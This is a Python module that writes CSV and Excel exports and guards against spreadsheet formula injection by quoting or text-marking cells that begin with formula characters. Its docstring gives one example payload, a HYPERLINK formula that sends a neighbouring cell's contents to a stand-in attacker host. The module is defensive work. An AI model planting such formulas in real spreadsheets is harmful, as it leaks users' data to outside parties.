"""Writing rows to a CSV or an Excel file, the one way every export does it.

A spreadsheet runs a cell that begins with ``=``, ``+``, ``-`` or ``@`` (and, after a tab or a carriage return,
whatever follows) as a formula: an asset named ``=HYPERLINK("http://evil.example/?leak="&A1,"点此核对")``
becomes a live link that sends the neighbouring cell away. OWASP's CSV-injection rule is applied to every text
cell: in a CSV such a cell is written with a leading single quote (Excel shows it as text); in a workbook it is a
text cell marked "quote prefix" (shown exactly as stored, and it stays text when edited). Numbers stay numbers —
a negative amount is a number, not text. Moments are written in Beijing time, as the lists show them."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from datetime import datetime
from decimal import Decimal
from typing import Any

from market.lists import local_time

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

Sheet = tuple[str, Sequence[Any], Iterable[Sequence[Any]]]  # (title, headers, rows)


def formula_like(value: Any) -> bool:
    """True for text a spreadsheet would take for a formula."""
    return isinstance(value, str) and value.startswith(FORMULA_START)


def unquote(value: str) -> str:
    """A cell read back from a CSV this module wrote: the quote that kept it from running as a formula removed."""
    return value[1:] if value.startswith("'") and formula_like(value[1:]) else value


def plain(value: Any) -> Any:
    """A cell's value as written: None is empty, a moment in Beijing time; everything else as it is."""
    if value is None:
        return ""
    if isinstance(value, datetime):
        return local_time(value)
    return value


def csv_cell(value: Any) -> Any:
    value = plain(value)
    return "'" + value if formula_like(value) else value


def csv_text(headers: Sequence[Any], rows: Iterable[Sequence[Any]]) -> str:
    """Rows as CSV text, every cell through ``csv_cell``."""
    buf = io.StringIO()
    writer = csv.writer(buf)
    writer.writerow([csv_cell(h) for h in headers])
    writer.writerows([csv_cell(v) for v in row] for row in rows)
    return buf.getvalue()


def csv_bytes(headers: Sequence[Any], rows: Iterable[Sequence[Any]]) -> bytes:
    """CSV in UTF-8 with a byte-order mark, so that Excel reads the Chinese."""
    return ("\ufeff" + csv_text(headers, rows)).encode("utf-8")


def _xlsx_cell(ws: Any, value: Any) -> Any:
    from openpyxl.cell import WriteOnlyCell

    value = plain(value)
    if isinstance(value, Decimal):
        return float(value)
    if formula_like(value):
        cell = WriteOnlyCell(ws, value=value)
        cell.data_type = "s"  # text, never a formula
        cell.quotePrefix = True  # and it stays text when someone edits it in Excel
        return cell
    return value


def xlsx_bytes(sheets: Iterable[Sheet]) -> bytes:
    """A workbook of one sheet per (title, headers, rows), every cell through the rule above."""
    from openpyxl import Workbook

    wb = Workbook(write_only=True)
    for title, headers, rows in sheets:
        ws = wb.create_sheet(str(title)[:31])
        ws.append([_xlsx_cell(ws, h) for h in headers])
        for row in rows:
            ws.append([_xlsx_cell(ws, v) for v in row])
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


XLSX_MEDIA = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CSV_MEDIA = "text/csv; charset=utf-8"
